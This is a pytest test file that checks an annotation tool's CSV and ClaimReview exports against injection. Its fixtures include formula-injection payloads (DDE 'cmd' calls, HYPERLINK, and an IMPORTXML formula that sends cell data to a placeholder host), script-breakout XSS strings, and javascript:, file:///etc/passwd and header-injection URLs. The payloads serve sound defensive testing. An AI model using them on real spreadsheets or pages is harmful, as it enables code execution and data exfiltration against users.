"""Exports that are safe to open: a CSV cell cannot run as a spreadsheet formula, a
ClaimReview file can be pasted into a <script> element and links only to web pages."""

import csv
import io
import json

import pytest

from annotator.services.export import records as ex
from annotator.domain import Claim, Figure, RawArticle
from annotator.services.export.claimreview import claim_review, write_claimreview
from annotator.services import review as svc
from annotator.storage import articles as repo
from annotator.storage.db import write_tx
from annotator.text import safe

from tests.core.factories import claim_ids, figure_ids, make_article

HOSTILE = ['=HYPERLINK("http://x","click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
           "\t=1", "\r=1", "-2+3+cmd|' /C calc'!A0"]


def _hostile_article(db, sentence: str = "-5 people left; =1+1 stayed.") -> str:
    """An article whose one claim (a sentence that opens with a minus sign) states -5."""
    text = f"{sentence}\n"
    surface = "-5 people"
    figure = Figure(text=surface, start=0, end=len(surface), kind="count", value=-5.0,
                    unit="people")
    claim = Claim(start=0, end=len(sentence), text=sentence, figures=[figure])
    with write_tx(db):
        aid = repo.insert_article(db, RawArticle(source="@evil.csv", text=text, title="t"),
                                  language="en", script=None, boilerplate=[], claims=[claim])
        repo.add_to_dataset(db, "=cmd", aid)
    return aid


def _csv_rows(db, **kw) -> list[dict]:
    buf = io.StringIO(newline="")
    ex.write_records(ex.iter_claim_records(db), buf, "csv", **kw)
    return list(csv.DictReader(io.StringIO(buf.getvalue(), newline="")))


# --- the rule ---------------------------------------------------------------------------

@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_could_start_a_formula_gets_an_apostrophe(cell):
    assert safe.neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "plain", "5.02万", "it's", " =1", "'=1", "a=b", None,
                                  -5, -5.5, 0])
def test_other_cells_and_numbers_are_left_as_they_are(cell):
    assert safe.neutralise_cell(cell) == cell


# --- the CSV export ---------------------------------------------------------------------

@pytest.mark.parametrize("title", HOSTILE)
def test_hostile_titles_are_neutralised_in_the_csv(db, title):
    aid = make_article(db)
    db.execute("UPDATE articles SET title = ? WHERE id = ?", [title, aid])
    rows = _csv_rows(db)
    assert rows and {r["title"] for r in rows} == {"'" + title}


def test_text_columns_are_neutralised_and_numbers_stay_numbers(db):
    aid = _hostile_article(db)
    fid = figure_ids(db, aid)[0]
    svc.review(db, reviewer="ana", target_id=fid, action="correct", value=-7,
               note="=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")")
    [row] = _csv_rows(db)
    assert row["dataset"] == "'=cmd"
    assert row["source"] == "'@evil.csv"
    assert row["claim_text"] == "'-5 people left; =1+1 stayed."
    assert row["figure_text"] == "'-5 people"
    assert row["note"].startswith("'=IMPORTXML(")
    # numbers the export writes itself are data, and a spreadsheet reads them as numbers
    assert row["value"] == "-5.0" and row["corrected_value"] == "-7.0"
    assert row["start"] == "0" and row["claim_start"] == "0"


def test_neutralising_can_be_turned_off(db):
    _hostile_article(db)
    [row] = _csv_rows(db, neutralise=False)
    assert row["dataset"] == "=cmd" and row["claim_text"].startswith("-5 people")


def test_the_file_export_neutralises_by_default(db, tmp_path):
    aid = make_article(db)
    db.execute("UPDATE articles SET title = '@SUM(1+1)' WHERE id = ?", [aid])
    out = tmp_path / "out.csv"
    ex.export(db, str(out), fmt="csv")
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert {r["title"] for r in rows} == {"'@SUM(1+1)"}
    ex.export(db, str(out), fmt="csv", neutralise=False)
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert {r["title"] for r in rows} == {"@SUM(1+1)"}


# --- ClaimReview ------------------------------------------------------------------------

SCRIPT_TITLE = "</script><script>alert(1)</script>\u2028&amp; <!-- x"


def _reviewed(db, url: str | None = "https://news.example/a", title: str = SCRIPT_TITLE):
    aid = make_article(db)
    db.execute("UPDATE articles SET url = ?, title = ?, date = '2024-03-01' WHERE id = ?",
               [url, title, aid])
    svc.review(db, reviewer="ana", target_id=claim_ids(db, aid)[0], action="confirm",
               note="</script>\u2029")
    return aid


def test_claimreview_can_be_embedded_in_a_script_element(db):
    _reviewed(db)
    buf = io.StringIO()
    write_claimreview(ex.iter_claim_records(db), buf)
    out = buf.getvalue()
    for raw in ("<", ">", "&", "\u2028", "\u2029"):
        assert raw not in out
    assert "\\u003c/script\\u003e" in out and "\\u2028" in out
    data = json.loads(out)  # the escapes read back as the same text
    assert data[0]["itemReviewed"]["appearance"][0]["headline"] == SCRIPT_TITLE


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JavaScript:alert(1)",
                                 " javascript:alert(1)", "data:text/html,<b>x</b>",
                                 "file:///etc/passwd", "vbscript:msgbox", "//evil.example/a",
                                 "news.example/a", "http://", "https:///a", "ftp://x.example/a",
                                 "http://x.example/\nSet-Cookie: a"])
def test_only_web_urls_are_written(db, url):
    _reviewed(db, url=url)
    [review] = [claim_review(r) for r in ex.iter_claim_records(db) if r["status"] != "unreviewed"]
    appearance = review["itemReviewed"]["appearance"][0]
    assert "url" not in appearance
    assert "firstAppearance" not in review["itemReviewed"]
    assert url not in json.dumps(review, ensure_ascii=False)


@pytest.mark.parametrize("url", ["https://news.example/a?b=1&c=2", "HTTP://news.example/a"])
def test_web_urls_are_kept(db, url):
    _reviewed(db, url=url)
    [review] = [claim_review(r) for r in ex.iter_claim_records(db) if r["status"] != "unreviewed"]
    assert review["itemReviewed"]["appearance"][0]["url"] == url


def test_claimreview_has_the_fields_google_requires(db):
    aid = _reviewed(db, title="Shortage")
    cid = claim_ids(db, aid)[0]
    recs = [r for r in ex.iter_claim_records(db) if r["claim_id"] == cid]
    review = claim_review(recs[0], review_url="https://checks.example/hk/{claim_id}")
    assert review["url"] == f"https://checks.example/hk/{cid}"
    assert review["claimReviewed"] and review["reviewRating"]["alternateName"] == "Confirmed"
    assert review["author"] == [{"@type": "Person", "name": "ana"}]
    item = review["itemReviewed"]
    assert item["@type"] == "Claim" and item["datePublished"] == "2024-03-01"
    assert item["appearance"][0]["url"] == "https://news.example/a"
    assert item["appearance"][0]["datePublished"] == "2024-03-01"
    assert review["datePublished"]
    page = claim_review(recs[0], review_url="https://checks.example/hk.html")
    assert page["url"] == "https://checks.example/hk.html"


@pytest.mark.parametrize("bad", ["javascript:alert(1)//{claim_id}", "checks.example/x", ""])
def test_a_review_url_that_is_not_a_web_page_is_refused(db, bad):
    _reviewed(db)
    with pytest.raises(ex.ExportError, match="http"):
        write_claimreview(ex.iter_claim_records(db), io.StringIO(), review_url=bad)


def test_an_author_is_never_invented(db):
    _reviewed(db)
    rec = next(r for r in ex.iter_claim_records(db) if r["status"] != "unreviewed")
    rec = dict(rec, reviews=[])  # e.g. a copy that inherits its original's review
    assert "author" not in claim_review(rec)
    assert claim_review(rec, organisation="Example Checks")["author"] == {
        "@type": "Organization", "name": "Example Checks"}


# --- the command line -------------------------------------------------------------------

def _cli(*args):
    from click.testing import CliRunner

    from annotator.cli import main

    return CliRunner().invoke(main, [str(a) for a in args])


def test_export_command_neutralises_unless_told_not_to(db, db_path, tmp_path):
    aid = make_article(db)
    db.execute("UPDATE articles SET title = ? WHERE id = ?", ['=HYPERLINK("http://x","click")', aid])
    out = tmp_path / "out.csv"
    for flag, expect in ((None, "'=HYPERLINK"), ("--no-neutralise", "=HYPERLINK")):
        result = _cli("export", "--format", "csv", "-o", out, "--db", db_path,
                      *([flag] if flag else []))
        assert result.exit_code == 0, result.output
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
        assert rows and all(r["title"].startswith(expect) for r in rows)


def test_export_command_claimreview_options(db, db_path, tmp_path):
    aid = _reviewed(db)
    out = tmp_path / "r.json"
    result = _cli("export", "--format", "claimreview", "-o", out, "--db", db_path,
                  "--review-url", "https://checks.example/{claim_id}",
                  "--organisation", "Example Checks")
    assert result.exit_code == 0, result.output
    [review] = json.loads(out.read_text(encoding="utf-8"))
    assert review["url"] == f"https://checks.example/{claim_ids(db, aid)[0]}"
    assert review["author"] == {"@type": "Organization", "name": "Example Checks"}
    result = _cli("export", "--format", "claimreview", "-o", out, "--db", db_path,
                  "--review-url", "javascript:alert(1)")
    assert result.exit_code == 1 and "http(s)" in result.output
    assert json.loads(out.read_text(encoding="utf-8")) == [review]  # the old file stands
    result = _cli("export", "--format", "claimreview", "-o", out, "--db", db_path)
    assert result.exit_code == 0 and "warning: without --review-url" in result.output
